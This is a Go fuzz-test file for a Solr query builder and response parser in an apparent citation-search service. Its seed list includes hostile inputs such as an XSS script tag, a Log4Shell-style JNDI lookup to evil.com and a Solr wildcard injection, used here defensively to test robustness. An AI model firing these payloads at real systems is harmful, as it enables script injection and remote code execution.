package solr

import (
	"bytes"
	"strconv"
	"strings"
	"testing"

	"github.com/helixir/citation-search-service/internal/domain"
)

// querySeeds are hostile or unusual query texts.
var querySeeds = []string{
	"knowledge base completion",
	`"already quoted"`,
	`half "quoted`,
	"title:* OR id:*",
	"a AND b OR NOT c",
	`\"escaped\"`,
	"~5",
	"<script>alert('xss')</script>",
	"${jndi:ldap://evil.com/a}",
	"query\x00with\x00nulls",
	"query\nwith\nnewlines",
	"​",
	"\uFEFF",
	"Schödinger's cat",
	string([]byte{0xfe, 0xff}),
	strings.Repeat("word ", 200),
	"",
	" ",
	"\t\n\r",
}

// FuzzBuildQuery checks that built queries keep the text recoverable and the
// slop no smaller than the word count, for any input.
func FuzzBuildQuery(f *testing.F) {
	for _, seed := range querySeeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, text string) {
		exact := BuildQuery(text, domain.ModeExact)
		if got := ExtractPhrase(exact); got != text {
			t.Errorf("exact query lost its text:\n  text:  %q\n  query: %q", text, exact)
		}

		words := len(strings.Fields(text))
		for mode, bonus := range map[domain.SearchMode]int{
			domain.ModeProximityTitle:   0,
			domain.ModeProximityAuthors: authorSlopBonus,
		} {
			q := BuildQuery(text, mode)
			display := DisplayQuery(q)
			if display != exact {
				t.Errorf("%s: display form %q, want %q", mode, display, exact)
			}
			slop, err := strconv.Atoi(strings.TrimPrefix(q[len(display):], "~"))
			if err != nil {
				t.Fatalf("%s: slop of %q is not a number: %v", mode, q, err)
			}
			if slop != words+bonus {
				t.Errorf("%s: slop %d, want %d", mode, slop, words+bonus)
			}
		}
	})
}

// FuzzParseResponse checks that arbitrary response bodies never panic the
// parser, whatever collection they are parsed as.
func FuzzParseResponse(f *testing.F) {
	f.Add([]byte(`{"responseHeader":{"params":{"q":"\"x\""}},"response":{"numFound":1,"docs":[{"sentence":["s"]}]}}`))
	f.Add([]byte(`{"response":{"numFound":0,"docs":[]}}`))
	f.Add([]byte(`{"response":{"docs":[{"title":{"nested":true},"authors":[1,null,{"a":1}]}]}}`))
	f.Add([]byte(`{"response":{"docs":[null,1,"x"]}}`))
	f.Add([]byte(`{"response":{"numFound":"many"}}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`null`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"response":{"docs":[{"sentence_num":"12"}]}}`))

	kinds := []domain.CollectionKind{
		domain.CollectionSentences,
		domain.CollectionMetadata,
		domain.CollectionSecondaryMetadata,
		domain.CollectionReferences,
	}

	f.Fuzz(func(t *testing.T, data []byte) {
		for _, kind := range kinds {
			res, err := ParseResponse(kind, bytes.NewReader(data))
			if err != nil {
				continue
			}
			for _, rec := range res.Records {
				if rec.Kind() != kind {
					t.Errorf("record kind %s in %s result", rec.Kind(), kind)
				}
			}
		}
	})
}
